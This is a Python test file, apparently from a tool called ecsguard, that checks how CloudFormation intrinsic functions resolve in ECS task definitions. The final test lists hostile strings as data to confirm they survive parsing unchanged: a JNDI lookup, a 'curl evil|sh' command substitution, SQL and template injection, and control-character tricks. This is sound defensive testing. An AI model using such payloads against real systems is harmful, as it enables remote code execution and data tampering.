"""Each CloudFormation intrinsic function, evaluated the way CloudFormation would, and values
the template does not determine surfacing as unknown (never as a plausible value)."""

from __future__ import annotations

import base64
import json
import textwrap

import pytest

from ecsguard.collect import cloudformation
from ecsguard.errors import InputError
from ecsguard.model import Inventory, InventoryBuilder
from ecsguard.model.ecs import TaskDefinition

HEAD = """\
AWSTemplateFormatVersion: "2010-09-09"
Parameters:
  Env: {Type: String, Default: prod}
  Port: {Type: Number, Default: 8080}
  Subnets: {Type: CommaDelimitedList, Default: "subnet-a,subnet-b,subnet-c"}
  NoDefault: {Type: String}
Mappings:
  Images:
    prod: {Tag: "1.2.3"}
    dev: {Tag: latest}
Conditions:
  IsProd: !Equals [!Ref Env, prod]
  IsDev: !Not [!Condition IsProd]
  Either: !Or [!Condition IsDev, !Equals [!Ref Port, 8080]]
  Both: !And [!Condition IsProd, !Equals ["8080", !Ref Port]]
  Undetermined: !Equals [!Ref NoDefault, x]
  ProdOrUndetermined: !Or [!Condition IsProd, !Condition Undetermined]
Resources:
  Key: {Type: AWS::KMS::Key, Properties: {Description: k}}
  Logs: {Type: AWS::Logs::LogGroup, Properties: {LogGroupName: /ecs/app}}
"""


def cfn(container: str, parameters: dict[str, str] | None = None, extra: str = "") -> Inventory:
    body = textwrap.indent(textwrap.dedent(container).strip("\n"), " " * 10)
    text = (
        HEAD
        + "  Task:\n    Type: AWS::ECS::TaskDefinition\n    Properties:\n"
        + "      Family: app\n      ContainerDefinitions:\n        - Name: app\n"
        + body
        + "\n"
        + extra
    )
    builder = InventoryBuilder()
    cloudformation.load(text, "t.yaml", builder, parameters=parameters)
    return builder.build()


def container(inv: Inventory) -> dict[str, object]:
    td = inv.task_definition("Task")
    assert isinstance(td, TaskDefinition)
    import msgspec

    return msgspec.to_builtins(td.container_definitions[0])  # type: ignore[no-any-return]


def task(inv: Inventory) -> TaskDefinition:
    td = inv.task_definition("Task")
    assert td is not None
    return td


def test_ref_parameter_default_and_override() -> None:
    assert container(cfn("  Image: !Ref Env"))["image"] == "prod"
    assert container(cfn("  Image: !Ref Env", {"Env": "dev"}))["image"] == "dev"


def test_ref_parameter_without_default_is_unknown() -> None:
    inv = cfn("  Image: !Ref NoDefault")
    assert task(inv).is_unknown("containerDefinitions[0].image")
    assert "image" not in container(inv)


def test_ref_resource_is_its_logical_id_or_literal_name() -> None:
    c = container(cfn("  Image: !Ref Key\n  Hostname: !Ref Logs"))
    assert c["image"] == "Key"
    assert c["hostname"] == "/ecs/app"


def test_pseudo_parameters() -> None:
    inv = cfn(
        "  Image: !Ref AWS::Partition\n  Hostname: !Ref AWS::AccountId\n  User: !Ref AWS::Region"
    )
    assert container(inv)["image"] == "aws"
    assert task(inv).is_unknown("containerDefinitions[0].hostname")
    assert task(inv).is_unknown("containerDefinitions[0].user")
    given = cfn("  User: !Ref AWS::Region", {"AWS::Region": "eu-west-1"})
    assert container(given)["user"] == "eu-west-1"
    assert task(given).region == "eu-west-1"


def test_no_value_drops_key_and_list_item() -> None:
    c = container(cfn("  User: !Ref AWS::NoValue\n  Command: [a, !Ref AWS::NoValue, b]"))
    assert "user" not in c
    assert list(c["command"]) == ["a", "b"]  # type: ignore[call-overload]


def test_sub_string_form() -> None:
    text = '  Image: !Sub "${AWS::Partition}/${Env}:${Port}/${Logs}/${!Literal}"'
    assert container(cfn(text))["image"] == "aws/prod:8080//ecs/app/${Literal}"


def test_ids_known_after_deployment_are_not_spliced_into_strings() -> None:
    # CDK builds image URIs this way: the repository ARN exists only after deployment.
    image = (
        '  Image: !Join ["", [!Select [4, !Split [":", !GetAtt Key.Arn]], ".dkr.ecr.", '
        "!Ref AWS::Region]]\n"
        '  User: !Sub "arn:aws:kms:::key/${Key}"\n'
        "  Hostname: !Base64 {Ref: Key}"
    )
    td = task(cfn(image, {"AWS::Region": "us-east-1"}))
    for field in ("image", "user", "hostname"):
        assert td.is_unknown(f"containerDefinitions[0].{field}")


def test_sub_list_form_and_unknown_part() -> None:
    text = '  Image: !Sub ["${Repo}:${Env}", {Repo: !Join ["/", [registry, app]]}]'
    assert container(cfn(text))["image"] == "registry/app:prod"
    inv = cfn('  Image: !Sub "repo:${AWS::Region}"')
    assert task(inv).is_unknown("containerDefinitions[0].image")


def test_join_select_split() -> None:
    c = container(
        cfn(
            '  Image: !Join [":", [app, !Select [1, !Split [",", "a,b,c"]]]]\n'
            "  Hostname: !Select [2, !Ref Subnets]\n"
            '  User: !Join ["", [!Ref Port]]'
        )
    )
    assert c["image"] == "app:b"
    assert c["hostname"] == "subnet-c"
    assert c["user"] == "8080"


def test_select_out_of_range_is_an_error() -> None:
    with pytest.raises(InputError) as err:
        cfn("  Image: !Select [5, [a, b]]")
    assert "Resources.Task.Properties" in str(err.value)


@pytest.mark.parametrize(
    ("condition", "params", "expected"),
    [
        ("IsProd", None, "then"),
        ("IsProd", {"Env": "dev"}, "else"),
        ("IsDev", None, "else"),
        ("Either", {"Env": "dev", "Port": "1"}, "then"),
        ("Both", None, "then"),
        ("Both", {"Port": "9"}, "else"),
        ("ProdOrUndetermined", None, "then"),
    ],
)
def test_if_with_conditions(condition: str, params: dict[str, str] | None, expected: str) -> None:
    assert container(cfn(f"  Image: !If [{condition}, then, else]", params))["image"] == expected


def test_if_with_undetermined_condition_is_unknown() -> None:
    inv = cfn("  Image: !If [Undetermined, a, b]")
    assert task(inv).is_unknown("containerDefinitions[0].image")
    decided = cfn("  Image: !If [Undetermined, a, b]", {"NoDefault": "x"})
    assert container(decided)["image"] == "a"


def test_find_in_map() -> None:
    assert container(cfn("  Image: !FindInMap [Images, !Ref Env, Tag]"))["image"] == "1.2.3"
    with pytest.raises(InputError, match=r"no Images\.qa\.Tag"):
        cfn("  Image: !FindInMap [Images, qa, Tag]")


def test_get_att_forms() -> None:
    c = container(cfn('  Image: !GetAtt Key.Arn\n  Hostname: {"Fn::GetAtt": [Logs, Arn]}'))
    assert c == {**c, "image": "Key", "hostname": "Logs"}
    for attr in ("Logs.RetentionInDays", "Key.VpcId"):
        inv = cfn(f"  User: !GetAtt {attr}")
        assert task(inv).is_unknown("containerDefinitions[0].user")


def test_import_value_in_user_is_unknown() -> None:
    inv = cfn("  User: !ImportValue shared-app-user\n  Privileged: false")
    td = task(inv)
    assert td.is_unknown("containerDefinitions[0].user")
    assert td.container_definitions[0].user is None
    assert not td.is_unknown("containerDefinitions[0].privileged")


def test_unknown_list_item_marks_the_list() -> None:
    inv = cfn("  Secrets:\n    - {Name: A, ValueFrom: arn:a}\n    - !ImportValue other-secret")
    td = task(inv)
    assert td.is_unknown("containerDefinitions[0].secrets")
    assert [s.name for s in td.container_definitions[0].secrets] == ["A"]


def test_base64_getazs_cidr_to_json_string() -> None:
    inv = cfn(
        "  Image: !Base64 hello\n"
        "  Hostname: !Select [0, !GetAZs '']\n"
        '  User: !Select [0, !Cidr ["10.0.0.0/16", 4, 8]]\n'
        "  DockerLabels: {config: !ToJsonString {a: 1, b: [x]}}"
    )
    c = container(inv)
    assert base64.b64decode(str(c["image"])) == b"hello"
    assert json.loads(c["dockerLabels"]["config"]) == {"a": 1, "b": ["x"]}  # type: ignore[index]
    assert task(inv).is_unknown("containerDefinitions[0].hostname")
    assert task(inv).is_unknown("containerDefinitions[0].user")


def test_resource_condition() -> None:
    extra = (
        "  DevQueue: {Type: AWS::SQS::Queue, Condition: IsDev, Properties: {QueueName: d}}\n"
        "  MaybeQueue: {Type: AWS::SQS::Queue, Condition: Undetermined, Properties: {QueueName: m}}\n"
    )
    names = {q.name for q in cfn("  Image: x", extra=extra).sqs_queues}
    assert names == {"m"}
    assert {q.name for q in cfn("  Image: x", {"Env": "dev"}, extra).sqs_queues} == {"d", "m"}


def test_undefined_condition_is_an_error() -> None:
    with pytest.raises(InputError, match="condition 'Nope' is not defined"):
        cfn("  Image: !If [Nope, a, b]")


def test_hostile_strings_survive_verbatim() -> None:
    hostile = [
        "${jndi:ldap://evil/a}",
        "$(curl evil|sh)",
        "'; DROP TABLE x; --",
        "\u202eevil\u200b",
        "{{7*7}}",
        "\x1b[31mred",
        "a" * 10000,
    ]
    env = "\n".join(
        f"    - Name: V{i}\n      Value: {json.dumps(v)}" for i, v in enumerate(hostile)
    )
    c = container(cfn("  Environment:\n" + env))
    assert [e["value"] for e in c["environment"]] == hostile  # type: ignore[index, union-attr]
